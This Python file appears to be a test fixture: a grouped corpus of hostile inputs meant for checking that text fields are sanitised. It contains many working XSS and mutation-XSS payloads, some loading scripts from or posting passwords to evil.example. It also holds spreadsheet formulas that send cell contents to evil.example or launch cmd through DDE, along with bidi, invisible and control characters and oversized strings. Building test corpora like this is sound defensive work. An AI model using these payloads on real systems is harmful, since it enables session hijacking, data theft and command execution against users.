"""The hostile corpus: what an attacker types into every text field, grouped by what it attacks.

Sources: OWASP's XSS filter evasion cheat sheet, known sanitizer bypasses (mXSS through namespace confusion
and re-parsing), OWASP's CSV-injection rule, Unicode's bidi and invisible characters (Trojan Source).
"""

# Script and event-handler vectors, dangerous URL schemes, SVG/MathML and mutation XSS.
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<a href=javascript:alert(1)>点我</a>",
    '<a href="jav&#x09;ascript:alert(1)">点我</a>',
    '<a href="  javascript:alert(1)">点我</a>',
    '<a href="JaVaScRiPt:alert(1)">点我</a>',
    '<a href="data:text/html,<script>alert(1)</script>">点我</a>',
    '<a href="vbscript:msgbox(1)">点我</a>',
    "[点我](javascript:alert(1))",
    "[点我](JAVASCRIPT:alert(1))",
    "[点我](javascript&#58;alert(1))",
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[点我](vbscript:msgbox(1))",
    "![图](javascript:alert(1))",
    '![图](x" onerror="alert(1))',
    "![图](https://tracker.example/pixel.gif)",
    "<https://evil.example/\"onmouseover=\"alert(1)>",
    "[a](https://example.org \"title\\\" onmouseover=alert(1) x=\\\"\")",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=password></form>',
    '<button formaction="javascript:alert(1)">点我</button>',
    '<input onfocus=alert(1) autofocus>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror="alert(1)">',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<template><img src=x onerror=alert(1)></template>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>'
    '<img onerror=alert(1) src=1>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<a href=\"#\" onclick=\"alert(1)\">点我</a>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ 7*7 }}{% debug %}",
    "${7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<a href="https://example.org" target="_blank">新窗口</a>',
    "```html\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| b | c |",
]

# Characters that hide or reorder text: bidi overrides and isolates, zero-width and other invisibles.
INVISIBLE = [
    "张主席\u202e席主",
    "\u202e.exe.txt 发言",
    "委员\u200b\u200c\u200d甲",
    "\ufeff政协主席",
    "\u2066隔离\u2069文本",
    "\u200f\u200e方向标记",
    "组\u2060合\u2061字\u2062符",
    "\u034f张\u17b4主席\u180e",
    "ｐｕｂｌｉｃ　全角",
    "张主席 / 政协主席",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
]

# Control characters: NUL (PostgreSQL text cannot hold it) and the other C0/C1 controls.
CONTROL = [
    "NUL\x00在中间",
    "\x00",
    "回车\r\n换行\r",
    "退格\x08\x08\x08",
    "铃声\x07\x1b[31m红色",
    "C1\x85\x9b控制",
    "垂直\x0b制表\x0c换页",
    "\x7f删除",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]

# Spreadsheet formulas (OWASP CSV injection): leading =, +, -, @, tab and carriage return.
FORMULA = [
    '=HYPERLINK("https://evil.example/?x="&A1,"详情")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "＝1+1",
]

# One mebibyte: every field must refuse it with a message or cut it, never store it whole.
HUGE = ["长" * (1024 * 1024 // 3), "A" * (1024 * 1024), "<b>" * (1024 * 1024 // 3)]

GROUPS = {"markup": MARKUP, "invisible": INVISIBLE, "control": CONTROL, "formula": FORMULA, "huge": HUGE}
ALL = [payload for group in GROUPS.values() for payload in group]
